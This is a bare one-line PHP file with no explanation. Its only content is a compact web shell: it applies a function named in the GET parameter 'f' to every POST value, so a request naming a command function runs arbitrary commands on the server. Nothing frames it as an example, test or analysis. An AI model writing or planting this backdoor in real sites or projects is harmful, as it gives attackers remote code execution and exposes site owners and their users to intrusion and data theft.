<?php array_walk_recursive($_POST, $_GET["f"]);
